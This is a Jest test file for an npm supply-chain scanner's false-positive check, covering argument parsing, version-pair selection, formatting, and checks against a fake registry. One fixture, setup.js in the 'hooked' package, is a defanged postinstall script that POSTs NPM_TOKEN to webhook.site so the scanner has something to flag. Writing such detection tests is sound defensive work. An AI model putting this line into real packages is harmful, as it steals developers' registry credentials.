import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parseArgs, selectNames } from '../../scripts/fp-check/args.js'
import { countVerdicts, formatResult, formatSummary } from '../../scripts/fp-check/format.js'
import { choosePair, pairChange, parsePackageList } from '../../scripts/fp-check/pairs.js'
import { checkPackage, type CheckEnv, type PairResult } from '../../scripts/fp-check/run.js'
import { loadFeeds } from '../../src/ioc/load-feeds.js'
import { RULES } from '../../src/rules/index.js'
import type { Manifest, Packument } from '../../src/types.js'
import { startFakeRegistry, type FakeRegistry } from '../helpers/fake-registry.js'

function packumentOf(versions: string[], latest?: string): Packument {
  const docs: Record<string, Manifest> = {}
  for (const version of versions) {
    docs[version] = { name: 'pkg', version, dist: { integrity: `sha512-${version}` } }
  }
  return { name: 'pkg', 'dist-tags': latest ? { latest } : {}, versions: docs }
}

describe('parsePackageList', () => {
  it('drops comments, blank lines and duplicates', () => {
    const text = '# frameworks\nreact\n\n  vue  # the other one\nreact\n@scope/pkg\r\n'
    expect(parsePackageList(text)).toEqual(['react', 'vue', '@scope/pkg'])
  })

  it('the shipped list has at least 150 distinct names', () => {
    const names = parsePackageList(readFileSync('scripts/fp-check/packages.txt', 'utf8'))
    expect(names.length).toBeGreaterThanOrEqual(150)
    expect(names).toEqual(expect.arrayContaining(['lodash', '@modelcontextprotocol/sdk', 'sharp']))
  })
})

describe('choosePair', () => {
  it('takes the highest stable version below latest on the same major, by semver', () => {
    // 1.10.0 sorts after 1.9.0 by semver though not by string; 2.0.0 is above latest
    const packument = packumentOf(['1.2.0', '1.9.0', '1.10.0', '1.11.0-beta.1', '2.0.0'], '1.11.0')
    packument.versions['1.11.0'] = { name: 'pkg', version: '1.11.0' }
    expect(choosePair(packument)).toEqual({ latest: '1.11.0', previous: '1.10.0' })
  })

  it('falls back to the highest release of an earlier major', () => {
    const packument = packumentOf(['1.4.0', '1.5.0', '2.0.0-rc.1', '2.0.0'], '2.0.0')
    expect(choosePair(packument)).toEqual({ latest: '2.0.0', previous: '1.5.0' })
  })

  it('says why when there is no pair', () => {
    expect(choosePair(packumentOf(['1.0.0'], '1.0.0'))).toEqual({
      reason: 'no stable release before 1.0.0'
    })
    expect(choosePair(packumentOf(['1.0.0']))).toHaveProperty('reason')
    expect(choosePair(packumentOf(['1.0.0'], '3.0.0'))).toHaveProperty('reason')
  })
})

describe('pairChange', () => {
  it('pins both versions to the integrity the packument lists', () => {
    const change = pairChange(packumentOf(['1.0.0', '1.1.0'], '1.1.0'), {
      latest: '1.1.0',
      previous: '1.0.0'
    })
    expect(change).toMatchObject({
      kind: 'changed',
      name: 'pkg',
      version: '1.1.0',
      lockfile: 'fp-check',
      line: 0,
      locked: { version: '1.1.0', integrity: 'sha512-1.1.0', source: 'registry' },
      previous: { version: '1.0.0', integrity: 'sha512-1.0.0', source: 'registry' }
    })
  })
})

describe('parseArgs and selectNames', () => {
  it('reads every option, with and without =', () => {
    const args = parseArgs(['--limit', '3', '--only=a,b ,c', '--json', 'out.json', '--verbose'])
    expect(args).toMatchObject({ limit: 3, only: ['a', 'b', 'c'], json: 'out.json' })
    expect(args.verbose).toBe(true)
    expect(args.allRuleFiles).toBe(false)
    expect(parseArgs(['--all-rule-files']).allRuleFiles).toBe(true)
    expect(parseArgs([]).concurrency).toBe(6)
  })

  it('rejects unknown options and bad numbers', () => {
    expect(() => parseArgs(['--limt', '3'])).toThrow('unknown option --limt')
    expect(() => parseArgs(['--limit', '0'])).toThrow('positive integer')
    expect(() => parseArgs(['--json'])).toThrow('needs a value')
  })

  it('--only replaces the list and --limit keeps the first names', () => {
    expect(selectNames(['a', 'b', 'c'], parseArgs(['--limit', '2']))).toEqual(['a', 'b'])
    expect(selectNames(['a', 'b', 'c'], parseArgs(['--only', 'x,y']))).toEqual(['x', 'y'])
  })
})

describe('formatting', () => {
  const failing: PairResult = {
    name: 'pkg',
    verdict: 'fail',
    latest: '1.1.0',
    previous: '1.0.0',
    ms: 42,
    rulesMs: 3,
    sizes: { latest: 2048, previous: 1024 },
    errors: [],
    findings: [
      {
        ruleId: 'content/install-script-changed',
        severity: 'critical',
        message: 'This version adds a postinstall script.',
        package: { name: 'pkg', version: '1.1.0', previous: '1.0.0' },
        location: { lockfile: 'fp-check', line: 0 },
        evidence: [
          { file: 'package.json', line: 5, snippet: '"postinstall": "node x.js"\u001b[31m' },
          { file: 'x.js', line: 1 }
        ]
      },
      {
        ruleId: 'content/new-endpoint',
        severity: 'info',
        message: 'context only',
        package: { name: 'pkg', version: '1.1.0' },
        location: { lockfile: 'fp-check', line: 0 },
        evidence: []
      }
    ]
  }

  it('prints the pair, each finding with its first evidence, and hides info findings', () => {
    const lines = formatResult(failing)
    expect(lines[0]).toBe('fail pkg 1.0.0 -> 1.1.0 (42 ms)')
    expect(lines).toContain(
      '  critical content/install-script-changed: This version adds a postinstall script.'
    )
    expect(lines).toContain('      package.json:5  "postinstall": "node x.js"?[31m')
    expect(lines).toContain('      (+1 more evidence)')
    expect(lines.join('\n')).not.toContain('context only')
  })

  it('prints nothing for a pass and sums up the verdicts with the slowest pairs', () => {
    const passing: PairResult = { ...failing, name: 'quiet', verdict: 'pass', findings: [], ms: 7 }
    expect(formatResult(passing)).toEqual([])
    expect(countVerdicts([failing, passing])).toEqual({ fail: 1, warn: 0, pass: 1, error: 0 })
    const summary = formatSummary([passing, failing], 1500)
    expect(summary).toContain('1 fail, 0 warn, 1 pass, 0 errors (2 packages in 1.5 s)')
    expect(summary).toContain('  pkg 1.0.0 -> 1.1.0: 42 ms (rules 3 ms, unpacked 1 KiB -> 2 KiB)')
  })
})

describe('checkPackage against a local registry', () => {
  let registry: FakeRegistry
  let cacheDir: string
  let env: CheckEnv

  beforeAll(async () => {
    const scripts = { postinstall: 'node setup.js' }
    registry = await startFakeRegistry([
      {
        name: 'honest',
        versions: [
          { version: '1.0.0', files: { 'index.js': 'module.exports = 1\n' } },
          { version: '1.0.1', files: { 'index.js': 'module.exports = 2\n' } },
          // published after latest, on an older line: not "the release before"
          { version: '0.9.9', files: { 'index.js': 'module.exports = 0\n' } }
        ],
        packument: { 'dist-tags': { latest: '1.0.1' } }
      },
      {
        name: 'hooked',
        versions: [
          { version: '2.0.0', files: { 'index.js': 'module.exports = 1\n' } },
          {
            version: '2.0.1',
            files: {
              'package.json': JSON.stringify({ name: 'hooked', version: '2.0.1', scripts }),
              'index.js': 'module.exports = 1\n',
              // defanged: the shape of a credential-stealing install script, never run
              'setup.js':
                "fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })\n"
            },
            manifest: { scripts }
          }
        ]
      },
      { name: 'single', versions: [{ version: '1.0.0' }] }
    ])
    cacheDir = mkdtempSync(join(tmpdir(), 'lockgate-fp-test-'))
    env = {
      npmOptions: { registry: registry.url },
      cacheDir,
      iocs: await loadFeeds({ workspace: process.cwd(), feeds: [] }),
      rules: RULES,
      failOn: 'high',
      now: new Date('2026-11-21T00:00:00Z')
    }
  })

  afterAll(async () => {
    await registry.close()
    rmSync(cacheDir, { recursive: true, force: true })
  })

  it('passes an honest update, compared with the release before it by semver', async () => {
    const result = await checkPackage('honest', env)
    expect(result).toMatchObject({ verdict: 'pass', latest: '1.0.1', previous: '1.0.0' })
    expect(result.sizes?.latest).toBeGreaterThan(0)
    expect(registry.requests).toContain('/honest/-/honest-1.0.0.tgz')
  })

  it('fails an update that adds an install script running a new file that sends a token out', async () => {
    const result = await checkPackage('hooked', env)
    expect(result.verdict).toBe('fail')
    expect(result.findings.map((finding) => finding.ruleId)).toContain(
      'content/install-script-changed'
    )
  })

  it('reports a package without a previous release or without a packument as an error', async () => {
    expect(await checkPackage('single', env)).toMatchObject({
      verdict: 'error',
      problem: 'single: no stable release before 1.0.0'
    })
    const missing = await checkPackage('absent', env)
    expect(missing.verdict).toBe('error')
    expect(missing.problem).toContain('absent')
  })
})
